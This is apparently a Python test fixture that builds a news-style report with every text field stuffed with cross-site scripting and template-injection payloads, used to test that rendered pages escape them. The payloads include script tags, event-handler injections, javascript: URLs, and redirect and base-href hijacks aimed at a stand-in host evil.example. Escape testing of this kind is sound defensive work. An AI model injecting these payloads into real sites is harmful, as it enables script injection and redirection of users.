"""A report that is hostile in every field that holds text, for the tests of the pages."""

from __future__ import annotations

import msgspec

from dragoman.schema import Report, Segment, Source, Span, Stamp, content_id
from dragoman.schema.report import Warning as Doubt
from tests.record.reports import full_report, span_of

PAYLOADS = (
    "<script>window.hit=1</script>",
    "\"'><img src=x onerror=window.hit=2>",
    "<svg/onload=window.hit=3>",
    "</title></style></textarea><script>window.hit=4</script>",
    "<a href=javascript:window.hit=5>x</a>",
    "<iframe srcdoc='<script>parent.hit=6</script>'>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "<!--<style>*{display:none}</style>--><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q autofocus onfocus=window.hit=7>",
    "&lt;script&gt;window.hit=8&lt;/script&gt;&#x3c;b&#x3e;",
    '\u2028]]>\\";window.hit=9//`',
)
HOSTILE = " ".join(PAYLOADS)

TEXT = f"""Peru {HOSTILE}

LIMA (Andes Wire) - Peru and Chile signed a pact on shared rivers on Monday. {HOSTILE}
Bolivia denied that it had been asked to join. Peru had accused Bolivia of silence. {HOSTILE}
Ecuador did not respond. Peru must answer an attack on the dams.

The bridge. {HOSTILE}

Photo: Ana Roe {HOSTILE}"""


def hostile_report() -> Report:
    """Every kind of finding, with markup wherever a page can put words."""
    caption, credit = span_of(TEXT, "\n\nThe bridge."), span_of(TEXT, "\n\nPhoto: Ana Roe")
    head = TEXT.index("\n\n")
    found = full_report(
        TEXT,
        id=content_id(TEXT.encode(), None, None),
        source=Source(location=HOSTILE, url=f"javascript:window.hit=10//{HOSTILE}",
                      media_type="text/html"),
        segments=(
            Segment("headline", 0, head), Segment("body", head + 2, caption.start),
            Segment("caption", caption.start + 2, credit.start),
            Segment("credit", credit.start + 2, len(TEXT)),
        ),
        headline=f"Peru {HOSTILE}", publisher=HOSTILE, agency=HOSTILE,
        authors=(HOSTILE, "Ana Roe"), language=HOSTILE[:60],
        published=Stamp(HOSTILE, "2025-03-03", None, None, "text"),
        warnings=(Doubt("odd", HOSTILE),),
    )  # fmt: skip
    replaced = msgspec.structs.replace
    start = TEXT.index(HOSTILE, TEXT.index("of silence"))
    words = (Span(start, start + len(HOSTILE)),)
    agreement = replaced(
        found.agreements[0], names=(HOSTILE, f"{HOSTILE}s"), kind=HOSTILE, reason=HOSTILE,
        signatories=(HOSTILE,), evidence=(*found.agreements[0].evidence, *words),
    )  # fmt: skip
    return replaced(
        found,
        actors=tuple(replaced(one, name=HOSTILE, office=HOSTILE) for one in found.actors),
        places=tuple(replaced(one, name=HOSTILE) for one in found.places),
        statements=tuple(
            replaced(one, reason=HOSTILE, content=(*one.content, *words))
            for one in found.statements
        ),
        events=tuple(
            replaced(one, reason=HOSTILE, evidence=(*words, *one.evidence)) for one in found.events
        ),
        agreements=(agreement,),
    )
